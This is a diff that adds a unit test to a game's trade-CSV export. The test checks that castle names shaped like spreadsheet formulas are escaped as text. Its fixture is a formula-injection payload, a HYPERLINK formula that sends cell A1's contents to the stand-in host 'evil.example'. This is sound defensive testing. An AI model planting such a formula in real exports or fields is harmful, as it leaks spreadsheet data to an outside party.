@@ -33,6 +33,15 @@ test('CSV: a header, one row per trade, quotes where a value needs them, empty f
   );
 });
 
+test('CSV: a castle named like a formula (the game lets players name castles) comes out as text, in the "to" and the reason', () => {
+  const castle = '=HYPERLINK("http://evil.example/?d="&A1,"Open")';
+  const csv = tradesCsv([{ ...sent, to: castle, reason: `${castle} holds 300 stone, under your reserve of 1,000` }]);
+  expect(csv.split('\r\n')[1]).toBe(
+    `2026-11-25T08:00:00.000Z,send,stone,700,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Open"")",,,true,carriage,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Open"") holds 300 stone, under your reserve of 1,000"`,
+  );
+  expect(tradesCsv([{ ...sent, to: '@Thornwall' }]).split('\r\n')[1]).toContain(",'@Thornwall,");
+});
+
 test('in German a trade reads with German words and numbers', async () => {
   const { readCatalogue } = await import('@shared/i18n/catalogue-files');
   const { messagesIn } = await import('@shared/i18n/messages');
